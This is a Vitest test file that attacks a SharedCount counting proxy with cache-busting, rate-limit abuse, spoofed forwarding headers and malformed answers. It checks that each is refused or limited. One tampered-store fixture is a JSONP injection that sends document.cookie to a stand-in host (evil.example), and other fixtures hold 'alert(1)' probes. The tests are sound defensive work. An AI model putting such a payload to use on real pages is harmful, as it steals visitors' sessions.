// @vitest-environment node
/**
 * The SharedCount proxy tried as an attacker would: every request a stranger can send, and what
 * it costs the publisher upstream. Each test counts the upstream calls exactly (the `fetch`
 * option records them). The same attacks on the wire, under every runtime: test/runtimes/; with
 * two instances sharing Redis: store.test.ts.
 */
import { createHash } from 'node:crypto';
import { Answers } from '../../src/server/answers.js';
import { bucketOf } from '../../src/server/budget.js';
import { afterEach, describe, expect, it, vi } from 'vitest';
import {
  createSharedCountProxy,
  MAX_ANSWER,
  MAX_BATCH,
  type ProxyContext,
  type ProxyStore,
  type SharedCountProxyOptions,
  type StoredValue,
} from '../../src/server/index.js';

const KEY = 'sc-secret-key-123';
const API = 'https://api.sharedcount.com/v1.1/';
const COUNTS = '{"Pinterest":9,"Facebook":{"total_count":168}}';

const json = (body: unknown, status = 200) =>
  new Response(typeof body === 'string' ? body : JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json' } });

type Reply = (page: string, signal: AbortSignal) => Response | Promise<Response>;

/** A proxy in front of a fake SharedCount; `calls` lists every page it was asked for, `open` the calls under way. */
function setup(options: Partial<SharedCountProxyOptions> = {}, reply: Reply = () => json(COUNTS)) {
  const calls: string[] = [];
  const state = { reply, open: 0, most: 0 };
  const proxy = createSharedCountProxy({
    apiKey: KEY,
    allowHosts: ['example.com'],
    log: () => {},
    fetch: async (input, init) => {
      const page = new URL(String(input)).searchParams.get('url') ?? '';
      calls.push(page);
      state.most = Math.max(state.most, ++state.open);
      try {
        return await state.reply(page, init!.signal!);
      } finally {
        state.open--;
      }
    },
    ...options,
  });
  /** A request for `page` from the client at `address`. */
  const count = (page: string, address = '203.0.113.7', init: RequestInit = {}, query = '') =>
    proxy(new Request(`https://publisher.example/?url=${encodeURIComponent(page)}${query}`, init), {
      remoteAddr: { hostname: address },
    } satisfies ProxyContext);
  return { proxy, calls, count, state };
}

afterEach(() => vi.useRealTimers());

describe('one page, one cache entry', () => {
  it('asks once for every variant of a page: case, default port, fragment, tracking parameters', async () => {
    const { count, calls } = setup();
    const variants = [
      'https://example.com/post?p=1',
      'HTTPS://Example.com/post?p=1',
      'https://eXample.com/post?p=1#comments',
      'https://example.com:443/post?p=1#1',
      'https://EXAMPLE.COM:0443/post?p=1#2',
      'https://example.com/post?utm_source=x&p=1&fbclid=abc',
      'https://example.com/post?p=1&gclid=1&mc_cid=2&mc_eid=3&utm_medium=mail&UTM_Campaign=z',
    ];
    for (const page of variants) {
      const answer = await count(page);
      expect([page, answer.status, await answer.text()]).toEqual([page, 200, COUNTS]);
    }
    expect(calls).toEqual(['https://example.com/post?p=1']);
  });

  it('leaves the path as written (SharedCount counts /post and /post/ apart) and keeps ?p=123 by default', async () => {
    const { count, calls } = setup();
    for (const page of ['https://example.com/post', 'https://example.com/post/', 'https://example.com/?p=123', 'http://example.com/post']) {
      expect((await count(page)).status).toBe(200);
    }
    expect(calls).toEqual([
      'https://example.com/post',
      'https://example.com/post/',
      'https://example.com/?p=123',
      'http://example.com/post',
    ]);
  });

  it("with query: 'drop', ?a=1…N is one page; with a list, only the listed parameters stay, in their order", async () => {
    const dropped = setup({ query: 'drop' });
    for (let i = 1; i <= 20; i++) expect((await dropped.count(`https://example.com/post?a=${i}`)).status).toBe(200);
    expect(dropped.calls).toEqual(['https://example.com/post']);

    const listed = setup({ query: ['p', 'lang'] });
    await listed.count('https://example.com/?lang=fr&a=1&p=7&utm_source=x');
    await listed.count('https://example.com/?lang=fr&p=7&b=2');
    expect(listed.calls).toEqual(['https://example.com/?lang=fr&p=7']);
  });

  it('refuses ports that allowHosts does not name (:1…:20 cost nothing), and takes one it names', async () => {
    const { count, calls } = setup();
    for (let port = 1; port <= 20; port++) {
      const answer = await count(`https://example.com:${port}/`);
      expect([port, answer.status, (await answer.json()).Type]).toEqual([port, 403, 'domain_not_allowed']);
    }
    expect(calls).toEqual([]);
    const withPort = setup({ allowHosts: ['example.com', 'example.com:8443'] });
    expect((await withPort.count('https://example.com:8443/a')).status).toBe(200);
    expect((await withPort.count('https://example.com:8444/a')).status).toBe(403);
    expect(withPort.calls).toEqual(['https://example.com:8443/a']);
  });
});

describe('a budget for upstream calls', () => {
  it('cuts 300 distinct pages from one client at 60 calls, 429 with Retry-After, while a page cached before keeps answering', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2026-12-07T10:00:15Z'));
    const { count, calls } = setup();
    expect((await count('https://example.com/popular', '198.51.100.1')).status).toBe(200);
    const statuses: number[] = [];
    for (let i = 0; i < 300; i++) statuses.push((await count(`https://example.com/post-${i}`)).status);
    expect(statuses.filter((status) => status === 200)).toHaveLength(60);
    expect(statuses.filter((status) => status === 429)).toHaveLength(240);
    expect(calls).toHaveLength(61);

    const refused = await count('https://example.com/post-300');
    expect([refused.status, refused.headers.get('retry-after'), refused.headers.get('cache-control')]).toEqual([429, '45', 'no-store']);
    expect(await refused.json()).toEqual({ Error: 'Too many uncounted pages asked for; try again in 45 s.', Type: 'rate_limited' });
    const jsonp = await count('https://example.com/post-301', '203.0.113.7', {}, '&callback=sc_x');
    expect([jsonp.status, await jsonp.text()]).toEqual([
      200,
      '/**/sc_x({"Error":"Too many uncounted pages asked for; try again in 45 s.","Type":"rate_limited"});',
    ]);
    // The attacker is still answered for cached pages, and so is everyone else.
    for (const address of ['203.0.113.7', '198.51.100.1']) {
      const cached = await count('https://example.com/popular', address);
      expect([cached.status, await cached.text()]).toEqual([200, COUNTS]);
    }
    expect(calls).toHaveLength(61);

    // The next minute, the client has a budget again.
    vi.setSystemTime(new Date('2026-12-07T10:01:00Z'));
    expect((await count('https://example.com/post-302')).status).toBe(200);
    expect(calls).toHaveLength(62);
  });

  it('lets a reader of a listing page with 50 uncached articles see every count', async () => {
    const { count, calls } = setup();
    const answers = await Promise.all(Array.from({ length: 50 }, (_, i) => count(`https://example.com/article-${i}`)));
    expect(answers.map((answer) => answer.status)).toEqual(Array(50).fill(200));
    expect(calls).toHaveLength(50);
  });

  it('gives two clients two budgets; a spoofed X-Forwarded-For changes nothing without trustProxy', async () => {
    const { count, calls } = setup({ budget: { perClient: 3 } });
    const spoof = (i: number) => ({ headers: { 'X-Forwarded-For': `10.0.0.${i}` } });
    const first = [];
    for (let i = 0; i < 5; i++) first.push((await count(`https://example.com/a-${i}`, '203.0.113.7', spoof(i))).status);
    expect(first).toEqual([200, 200, 200, 429, 429]);
    const second = [];
    for (let i = 0; i < 4; i++) second.push((await count(`https://example.com/b-${i}`, '203.0.113.8')).status);
    expect(second).toEqual([200, 200, 200, 429]);
    expect(calls).toHaveLength(6);
  });

  it('with trustProxy, takes the client from the entry the first of its proxies added to X-Forwarded-For', async () => {
    const { count, calls } = setup({ budget: { perClient: 1 }, trustProxy: true });
    // Behind the publisher's own proxy at 10.0.0.1, which adds the address it saw to X-Forwarded-For.
    const behind = (page: string, forwarded: string) => count(page, '10.0.0.1', { headers: { 'X-Forwarded-For': forwarded } });
    // The client wrote the first entry itself; the publisher's proxy added the last one.
    expect((await behind('https://example.com/1', '1.1.1.1, 198.51.100.20')).status).toBe(200);
    expect((await behind('https://example.com/2', '2.2.2.2, 198.51.100.20')).status).toBe(429);
    expect((await behind('https://example.com/3', '1.1.1.1, 198.51.100.21')).status).toBe(200);
    expect(calls).toHaveLength(2);
    const two = setup({ budget: { perClient: 1 }, trustProxy: 2 });
    const hop = (page: string, forwarded: string) => two.count(page, '10.0.0.3', { headers: { 'X-Forwarded-For': forwarded } });
    expect((await hop('https://example.com/1', '9.9.9.9, 198.51.100.30, 10.0.0.2')).status).toBe(200);
    expect((await hop('https://example.com/2', '8.8.8.8, 198.51.100.30, 10.0.0.3')).status).toBe(429);
  });

  it('counts an IPv6 client by its /64, and an IPv4-mapped one as IPv4', async () => {
    const { count } = setup({ budget: { perClient: 2 } });
    expect((await count('https://example.com/1', '2001:db8:1:2::1')).status).toBe(200);
    expect((await count('https://example.com/2', '2001:0db8:0001:0002:ffff::9')).status).toBe(200);
    expect((await count('https://example.com/3', '[2001:db8:1:2:abcd::1]')).status).toBe(429);
    expect((await count('https://example.com/4', '2001:db8:1:3::1')).status).toBe(200);
    expect((await count('https://example.com/5', '::ffff:192.0.2.1')).status).toBe(200);
    expect((await count('https://example.com/6', '192.0.2.1')).status).toBe(200);
    expect((await count('https://example.com/7', '192.0.2.1')).status).toBe(429);
  });

  it('cuts 100 clients together at perMinute, and a day at perDay', async () => {
    const { count, calls } = setup({ budget: { perMinute: 50 } });
    const statuses = await Promise.all(Array.from({ length: 100 }, (_, i) => count(`https://example.com/${i}`, `198.51.100.${i}`)));
    expect(statuses.filter((answer) => answer.status === 200)).toHaveLength(50);
    expect(calls).toHaveLength(50);

    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2026-12-07T23:59:00Z'));
    const daily = setup({ budget: { perDay: 3 } });
    const first = [];
    for (let i = 0; i < 4; i++) first.push(await daily.count(`https://example.com/d-${i}`, `198.51.100.${i}`));
    expect(first.map((answer) => answer.status)).toEqual([200, 200, 200, 429]);
    expect([first[3]!.headers.get('retry-after'), (await first[3]!.json()).Error]).toEqual([
      '60',
      'This proxy has spent its upstream calls for today.',
    ]);
    vi.setSystemTime(new Date('2026-12-08T00:00:01Z'));
    expect((await daily.count('https://example.com/d-4')).status).toBe(200);
    expect(daily.calls).toHaveLength(4);
  });

  it('serves the stale answer when over budget, and joining a call under way costs nothing', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const { count, calls } = setup({ budget: { perClient: 1 }, ttl: 60 });
    expect((await count('https://example.com/a')).status).toBe(200);
    vi.setSystemTime(Date.now() + 61_000);
    // A new minute, a new budget: spent at once on another page.
    expect((await count('https://example.com/b')).status).toBe(200);
    const stale = await count('https://example.com/a');
    expect([stale.status, stale.headers.get('x-share-count-stale'), await stale.text()]).toEqual([200, 'rate_limited', COUNTS]);
    expect(calls).toEqual(['https://example.com/a', 'https://example.com/b']);

    const slow = setup({ budget: { perClient: 1 } }, async () => {
      await new Promise((resolve) => setTimeout(resolve, 30));
      return json(COUNTS);
    });
    const together = await Promise.all(Array.from({ length: 5 }, () => slow.count('https://example.com/same')));
    expect(together.map((answer) => answer.status)).toEqual([200, 200, 200, 200, 200]);
    expect(slow.calls).toHaveLength(1);
  });

  it('has at most `concurrent` upstream calls at once; the others wait their turn and are answered', async () => {
    const { count, calls, state } = setup({ budget: { concurrent: 3 } }, async () => {
      await new Promise((resolve) => setTimeout(resolve, 20));
      return json(COUNTS);
    });
    const answers = await Promise.all(Array.from({ length: 20 }, (_, i) => count(`https://example.com/${i}`)));
    expect(answers.map((answer) => answer.status)).toEqual(Array(20).fill(200));
    expect([calls.length, state.most]).toEqual([20, 3]);
  });

  it('opens 8 upstream connections, not 400, for 400 distinct pages at once from 100 clients', async () => {
    const { count, calls, state } = setup({}, async () => {
      await new Promise((resolve) => setTimeout(resolve, 5));
      return json(COUNTS);
    });
    const answers = await Promise.all(Array.from({ length: 400 }, (_, i) => count(`https://example.com/${i}`, `198.51.100.${i % 100}`)));
    expect(answers.map((answer) => answer.status)).toEqual(Array(400).fill(200));
    expect([calls.length, state.most]).toEqual([400, 8]);
  });

  it('drops a waiting call whose client has gone: it never reaches the upstream', async () => {
    let release: () => void = () => {};
    const { count, calls, state } = setup(
      { budget: { concurrent: 1 } },
      () => new Promise((resolve) => (release = () => resolve(json(COUNTS)))),
    );
    const first = count('https://example.com/first');
    await vi.waitFor(() => expect(calls).toHaveLength(1));
    const gone = new AbortController();
    const abandoned = count('https://example.com/abandoned', '203.0.113.7', { signal: gone.signal });
    await new Promise((resolve) => setTimeout(resolve, 10));
    gone.abort();
    expect((await abandoned).status).toBe(504);
    state.reply = () => json(COUNTS);
    release();
    expect((await first).status).toBe(200);
    const next = await count('https://example.com/next');
    expect(next.status).toBe(200);
    expect(calls).toEqual(['https://example.com/first', 'https://example.com/next']);
    // Nothing was held against the abandoned page: the next reader of it gets its count.
    expect((await count('https://example.com/abandoned')).status).toBe(200);
    expect(calls).toHaveLength(3);
  });

  it('checks its budget at creation', () => {
    for (const budget of [{ perClient: 0 }, { perMinute: 1.5 }, { concurrent: -1 }, { perDay: Number.NaN }]) {
      expect(() => setup({ budget })).toThrow(TypeError);
    }
    expect(() => setup({ trustProxy: -1 })).toThrow(/trustProxy/);
    expect(() => setup({ query: ['p', ''] })).toThrow(/query/);
  });
});

describe('refusals remembered, failures backed off', () => {
  it('asks once for 20 requests of a URL SharedCount refuses (401 domain_not_whitelisted), then again after refusalTtl', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const refusal = { Error: 'Domain not whitelisted', Type: 'domain_not_whitelisted' };
    const { count, calls } = setup({ refusalTtl: 600 }, () => json(refusal, 401));
    for (let i = 0; i < 20; i++) {
      const answer = await count('https://example.com/refused', `198.51.100.${i}`);
      expect([answer.status, await answer.json(), answer.headers.get('cache-control')]).toEqual([401, refusal, 'no-store']);
    }
    expect(calls).toHaveLength(1);
    vi.setSystemTime(Date.now() + 601_000);
    await count('https://example.com/refused');
    expect(calls).toHaveLength(2);
  });

  it('keeps serving a stale answer when its refresh is refused, naming why, and asks once per back-off', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const { count, calls, state } = setup({ ttl: 60 });
    await count('https://example.com/was-counted');
    vi.setSystemTime(Date.now() + 61_000);
    state.reply = () => json({ Error: 'Domain not whitelisted', Type: 'domain_not_whitelisted' }, 401);
    expect((await count('https://example.com/was-counted')).headers.get('x-share-count-stale')).toBe('revalidating');
    // Requests while the refresh is under way join it and still say `revalidating`; then the refusal is named.
    await vi.waitFor(async () =>
      expect((await count('https://example.com/was-counted')).headers.get('x-share-count-stale')).toBe('domain_not_whitelisted'),
    );
    for (let i = 0; i < 10; i++) {
      const answer = await count('https://example.com/was-counted');
      expect([answer.status, answer.headers.get('x-share-count-stale'), await answer.text()]).toEqual([
        200,
        'domain_not_whitelisted',
        COUNTS,
      ]);
    }
    expect(calls).toHaveLength(2);
  });

  it('backs off a URL whose call failed (5xx, timeout): one call per period, doubling', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const { count, calls } = setup({}, () => new Response('down', { status: 503 }));
    for (let i = 0; i < 20; i++) {
      const answer = await count('https://example.com/down', `198.51.100.${i}`);
      expect([answer.status, (await answer.json()).Type]).toEqual([502, 'upstream_error']);
    }
    expect(calls).toHaveLength(1);
    vi.setSystemTime(Date.now() + 10_001);
    await count('https://example.com/down');
    expect(calls).toHaveLength(2);
    vi.setSystemTime(Date.now() + 10_001);
    await count('https://example.com/down');
    expect(calls, 'the second failure in a row waits 20 s').toHaveLength(2);
    vi.setSystemTime(Date.now() + 10_000);
    await count('https://example.com/down');
    expect(calls).toHaveLength(3);

    const slow = setup(
      { timeout: 50 },
      (_page, signal) => new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(signal.reason))),
    );
    for (let i = 0; i < 5; i++) expect((await slow.count('https://example.com/slow')).status).toBe(504);
    expect(slow.calls).toHaveLength(1);
  });
});

describe('bounded, checked answers', () => {
  it('answers 502 for a 5 MB answer, reads no more than the cap, and keeps nothing', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    let pulled = 0;
    const huge = () =>
      new Response(
        new ReadableStream<Uint8Array>({
          pull(controller) {
            if (pulled >= 5 * 2 ** 20) return controller.close();
            pulled += 16_384;
            controller.enqueue(new Uint8Array(16_384).fill(0x20));
          },
        }),
      );
    const { count, calls, state } = setup({}, huge);
    const answer = await count('https://example.com/huge');
    expect([answer.status, await answer.json()]).toEqual([
      502,
      { Error: `SharedCount answered more than ${MAX_ANSWER} bytes`, Type: 'upstream_error' },
    ]);
    expect(pulled).toBeLessThanOrEqual(MAX_ANSWER + 3 * 16_384);
    // Declared too long: not read at all.
    const declared = setup({}, () => new Response('{}', { headers: { 'Content-Length': String(5 * 2 ** 20) } }));
    expect((await declared.count('https://example.com/declared')).status).toBe(502);
    // Not kept: once the back-off is over, the page is asked again and its real answer served.
    state.reply = () => json(COUNTS);
    vi.setSystemTime(Date.now() + 10_001);
    expect(await (await count('https://example.com/huge')).text()).toBe(COUNTS);
    expect(calls).toHaveLength(2);
  });

  const wrong: [string, string][] = [
    ['counts that are not counts', '{"Pinterest":"lots","Facebook":-5}'],
    ['a negative Facebook count', '{"Facebook":{"total_count":-5}}'],
    ['an array', '[1,2,3]'],
    ['a number', '42'],
    ['HTML', '<html>down</html>'],
  ];
  for (const [what, body] of wrong) {
    it(`answers 502 for ${what}, and caches nothing`, async () => {
      vi.useFakeTimers({ toFake: ['Date'] });
      const { count, calls, state } = setup({}, () => json(body));
      const answer = await count('https://example.com/');
      expect([answer.status, (await answer.json()).Type, answer.headers.get('cache-control')]).toEqual([502, 'upstream_error', 'no-store']);
      state.reply = () => json(COUNTS);
      vi.setSystemTime(Date.now() + 10_001);
      expect(await (await count('https://example.com/')).text()).toBe(COUNTS);
      expect(calls).toHaveLength(2);
    });
  }
});

describe('the store is not trusted', () => {
  /** A store holding `value` under the key the proxy reads for `page`, and recording what it writes. */
  function tampered(page: string, value: unknown) {
    const id = `share-count-widgets:sharedcount:${createHash('sha256').update(page).digest('hex')}`;
    const written = new Map<string, StoredValue>();
    const store: ProxyStore = {
      getItem: async (key) => written.get(key) ?? (key === id ? value : null),
      setItem: async (key, stored) => void written.set(key, stored),
    };
    return { store, written };
  }
  const page = 'https://example.com/stored';

  const forgeries: [string, unknown][] = [
    ['script in place of JSON', { key: page, body: '1);fetch("https://evil.example/?c="+document.cookie);//', at: Date.now() }],
    ['JSON that is not counts', { key: page, body: '{"Pinterest":"lots"}', at: Date.now() }],
    ['an array', { key: page, body: '[1]', at: Date.now() }],
    ['a time a year ahead', { key: page, body: COUNTS, at: Date.now() + 365 * 86_400_000 }],
    ['another URL', { key: 'https://example.com/other', body: COUNTS, at: Date.now() }],
    ['a body that is not a string', { key: page, body: { Pinterest: 1 }, at: Date.now() }],
    ['a refusal status that is no refusal', { key: page, body: COUNTS, at: Date.now(), status: 200 }],
    ['a refusal without its shape', { key: page, body: 'alert(1)', at: Date.now(), status: 401 }],
    ['a string', 'alert(1)'],
  ];
  for (const [what, value] of forgeries) {
    it(`does not serve ${what}: asks SharedCount and serves its answer`, async () => {
      const { store } = tampered(page, value);
      const { count, calls } = setup({ store });
      const answer = await count(page, '203.0.113.7', {}, '&callback=sc_cb');
      expect([answer.status, await answer.text()]).toEqual([200, `/**/sc_cb(${COUNTS});`]);
      expect(answer.headers.get('cache-control')).toBe(
        'public, max-age=3600, s-maxage=3600, stale-while-revalidate=86400, stale-if-error=86400',
      );
      expect(calls).toEqual([page]);
    });
  }

  it('serves a stored answer as JSON it writes itself, its time clamped to now', async () => {
    const { store } = tampered(page, { key: page, body: '{ "Pinterest" : 9 }', at: Date.now() + 30_000 });
    const { count, calls } = setup({ store });
    const answer = await count(page);
    expect([answer.status, await answer.text(), answer.headers.get('cache-control')]).toEqual([
      200,
      '{"Pinterest":9}',
      'public, max-age=3600, s-maxage=3600, stale-while-revalidate=86400, stale-if-error=86400',
    ]);
    expect(calls).toEqual([]);
  });

  it('writes refusals to the store, and serves a stored one as its own error JSON', async () => {
    const refusal = { Error: 'Domain not whitelisted', Type: 'domain_not_whitelisted' };
    const { store, written } = tampered(page, null);
    const first = setup({ store }, () => json(refusal, 401));
    expect((await first.count(page)).status).toBe(401);
    await vi.waitFor(() => expect([...written.values()].some((value) => typeof value === 'object' && value.status === 401)).toBe(true));
    const second = setup({ store }, () => json(COUNTS));
    const answer = await second.count(page);
    expect([answer.status, await answer.json()]).toEqual([401, refusal]);
    expect(second.calls).toEqual([]);
  });
});

describe('the upstream URL stays the API', () => {
  it('asks only the endpoint, with the normalised page encoded once and the key', async () => {
    const seen: string[] = [];
    const proxy = createSharedCountProxy({
      apiKey: KEY,
      allowHosts: ['example.com'],
      fetch: async (input) => {
        seen.push(String(input));
        return json(COUNTS);
      },
    });
    await proxy(new Request(`https://publisher.example/?url=${encodeURIComponent('HTTPS://EXAMPLE.com:443/a b?utm_source=x&q=1#f')}`));
    expect(seen).toEqual([`${API}?url=${encodeURIComponent('https://example.com/a b?q=1')}&apikey=${KEY}`]);
  });
});

describe('found in review', () => {
  it('survives a store whose setItem throws or returns no promise: answers, and warns once', async () => {
    for (const setItem of [
      () => {
        throw new Error('disk full');
      },
      () => undefined as unknown as Promise<void>,
    ]) {
      const log = vi.fn();
      const { count, calls } = setup({ store: { getItem: async () => null, setItem }, log });
      for (let i = 0; i < 3; i++) expect((await count(`https://example.com/${i}`)).status).toBe(200);
      // Writes run after the answer: let them fail.
      await new Promise((resolve) => setTimeout(resolve, 20));
      expect(calls).toHaveLength(3);
      expect(log).toHaveBeenCalledTimes(1);
      expect(log.mock.calls[0]![0]).toMatch(/^share-count-widgets proxy: the store failed/);
    }
  });

  it('warns once when the runtime does not say who the client is, and once for perDay without a store', async () => {
    const log = vi.fn();
    const proxy = createSharedCountProxy({ apiKey: KEY, allowHosts: ['example.com'], log, fetch: async () => json(COUNTS) });
    for (const page of ['https://example.com/a', 'https://example.com/b']) {
      expect((await proxy(new Request(`https://publisher.example/?url=${encodeURIComponent(page)}`))).status).toBe(200);
    }
    expect(log.mock.calls).toEqual([[expect.stringContaining('the runtime did not say who the client is')]]);
    const daily = vi.fn();
    createSharedCountProxy({ apiKey: KEY, allowHosts: ['example.com'], log: daily, budget: { perDay: 1000 } });
    expect(daily.mock.calls).toEqual([[expect.stringContaining('budget.perDay without a store holds per instance')]]);
  });

  it('reads a client written with its port (some proxies do) as its address, and refuses what is no address', () => {
    expect(bucketOf('9.9.9.9:50001')).toBe('9.9.9.9');
    expect(bucketOf('[2001:db8:1:2::1]:443')).toBe('2001:db8:1:2::/64');
    expect(bucketOf('::FFFF:192.0.2.1')).toBe('192.0.2.1');
    for (const junk of ['unknown', '999.1.1.1', 'evil', '1:2:3', '::1::2', '', 'g::1'])
      expect([junk, bucketOf(junk)]).toEqual([junk, undefined]);
  });

  it('with trustProxy, an X-Forwarded-For entry with a port or that is no address picks no new bucket', async () => {
    const { count, calls } = setup({ budget: { perClient: 1 }, trustProxy: true });
    // Behind the publisher's own proxy at 10.0.0.1, which adds the address it saw to X-Forwarded-For.
    const behind = (page: string, forwarded: string) => count(page, '10.0.0.1', { headers: { 'X-Forwarded-For': forwarded } });
    expect((await behind('https://example.com/1', '9.9.9.9:50001')).status).toBe(200);
    expect((await behind('https://example.com/2', '9.9.9.9:50002')).status).toBe(429);
    // Junk falls back to the address the runtime reports.
    expect((await behind('https://example.com/3', 'junk-1')).status).toBe(200);
    expect((await behind('https://example.com/4', 'junk-2')).status).toBe(429);
    expect(calls).toHaveLength(2);
  });

  it('never shows the key, even in counts that echo it', async () => {
    const { count } = setup({}, () => json({ Pinterest: 1, debug: `url=x&apikey=${KEY}` }));
    const body = await (await count('https://example.com/echo')).text();
    expect(body).toBe('{"Pinterest":1,"debug":"url=x&apikey=***"}');
  });

  it('holds answers in memory up to maxBytes, the least recently used going first', async () => {
    const answers = new Answers({ maxEntries: 100, maxBytes: 100, keep: 60, namespace: 'n', log: () => {}, accept: (body) => body });
    const body = 'x'.repeat(40);
    for (const key of ['a', 'b', 'c']) answers.set(key, { body, at: Date.now() });
    expect(await answers.get('a'), 'a went: 120 characters are over 100').toBeUndefined();
    expect((await answers.get('b'))?.body).toBe(body);
    answers.set('d', { body, at: Date.now() });
    expect(await answers.get('c'), 'c was the least recently used').toBeUndefined();
    expect((await answers.get('b'))?.body).toBe(body);
  });
});

describe('many URLs in one request: {prefix}batch', () => {
  const batch = (proxy: ReturnType<typeof setup>['proxy'], pages: string[], query = '', address = '203.0.113.7') =>
    proxy(new Request(`https://publisher.example/batch?${pages.map((page) => `url=${encodeURIComponent(page)}`).join('&')}${query}`), {
      remoteAddr: { hostname: address },
    });

  it('answers one JSON object keyed by each URL as asked, one upstream call per page, cacheable as its least fresh part', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    const { proxy, count, calls } = setup();
    await count('https://example.com/a');
    vi.setSystemTime(Date.now() + 600_000);
    const pages = ['https://example.com/a', 'HTTPS://Example.com/b#top', 'https://example.com/b?utm_source=x'];
    const answer = await batch(proxy, pages);
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/json; charset=utf-8']);
    expect(await answer.json()).toEqual(Object.fromEntries(pages.map((page) => [page, JSON.parse(COUNTS)])));
    expect(calls, 'a was cached; both forms of b are one page').toEqual(['https://example.com/a', 'https://example.com/b']);
    expect(answer.headers.get('cache-control')).toBe(
      'public, max-age=3000, s-maxage=3000, stale-while-revalidate=86400, stale-if-error=86400',
    );
    // Again: every part from the cache.
    expect((await batch(proxy, pages)).status).toBe(200);
    expect(calls).toHaveLength(2);
  });

  it('50 URLs waiting on one request: no MaxListenersExceededWarning, and a client gone stops all 50 calls', async () => {
    const warnings: string[] = [];
    const onWarning = (warning: Error) => warnings.push(warning.name);
    process.on('warning', onWarning);
    try {
      const { proxy, state } = setup(
        { budget: { perClient: 100 } },
        (_page, signal) => new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason))),
      );
      const pages = Array.from({ length: 50 }, (_, i) => `https://example.com/slow-${i}`);
      const client = new AbortController();
      const answer = proxy(
        new Request(`https://publisher.example/batch?${pages.map((page) => `url=${encodeURIComponent(page)}`).join('&')}`, {
          signal: client.signal,
        }),
        {
          remoteAddr: { hostname: '203.0.113.7' },
        },
      );
      await vi.waitFor(() => expect(state.open).toBe(8));
      client.abort();
      await answer;
      await vi.waitFor(() => expect(state.open).toBe(0));
      await new Promise((resolve) => setImmediate(resolve));
      expect(warnings).toEqual([]);
    } finally {
      process.off('warning', onWarning);
    }
  });

  it('gives each URL its own error, with no call for it, and caches the batch nowhere then', async () => {
    const refusal = { Error: 'Domain not whitelisted', Type: 'domain_not_whitelisted' };
    const { proxy, calls } = setup({}, (page) => (page.endsWith('/refused') ? json(refusal, 401) : json(COUNTS)));
    const pages = ['https://example.com/ok', 'https://evil.example/', 'javascript:alert(1)', 'https://example.com/refused'];
    const answer = await batch(proxy, pages);
    expect(answer.status).toBe(200);
    expect(await answer.json()).toEqual({
      'https://example.com/ok': JSON.parse(COUNTS),
      'https://evil.example/': { Error: 'This proxy does not count pages of that domain.', Type: 'domain_not_allowed' },
      'javascript:alert(1)': { Error: 'Not a valid URL.', Type: 'invalid_url' },
      'https://example.com/refused': refusal,
    });
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(calls).toEqual(['https://example.com/ok', 'https://example.com/refused']);
    await batch(proxy, pages);
    expect(calls, 'the refusal is remembered').toHaveLength(2);
  });

  it('spends the budget per URL: a batch of 5 new pages with 3 left gets 3 counts and 2 rate_limited', async () => {
    const { proxy, calls } = setup({ budget: { perClient: 3 } });
    const pages = [1, 2, 3, 4, 5].map((i) => `https://example.com/new-${i}`);
    const body = (await (await batch(proxy, pages)).json()) as Record<string, { Type?: string }>;
    expect(pages.map((page) => body[page]!.Type ?? 'counts').sort()).toEqual([
      'counts',
      'counts',
      'counts',
      'rate_limited',
      'rate_limited',
    ]);
    expect(calls).toHaveLength(3);
  });

  it(`takes 1 to ${MAX_BATCH} URLs, wraps JSONP with callback, and leaves other paths 404`, async () => {
    const { proxy, calls } = setup();
    const many = Array.from({ length: MAX_BATCH + 1 }, (_, i) => `https://example.com/${i}`);
    for (const pages of [[], many]) {
      const answer = await batch(proxy, pages);
      expect([pages.length, answer.status, await answer.json()]).toEqual([
        pages.length,
        400,
        { Error: `A batch takes 1 to ${MAX_BATCH} url parameters.`, Type: 'invalid_batch' },
      ]);
    }
    expect(calls).toEqual([]);
    const jsonp = await batch(proxy, ['https://example.com/'], '&callback=sc_batch');
    expect([jsonp.headers.get('content-type'), await jsonp.text()]).toEqual([
      'text/javascript; charset=utf-8',
      `/**/sc_batch({"https://example.com/":${COUNTS}});`,
    ]);
    const full = await batch(proxy, many.slice(0, MAX_BATCH));
    expect(Object.keys(await full.json())).toHaveLength(MAX_BATCH);
    expect((await proxy(new Request('https://publisher.example/batches?url=x'))).status).toBe(404);
  });
});
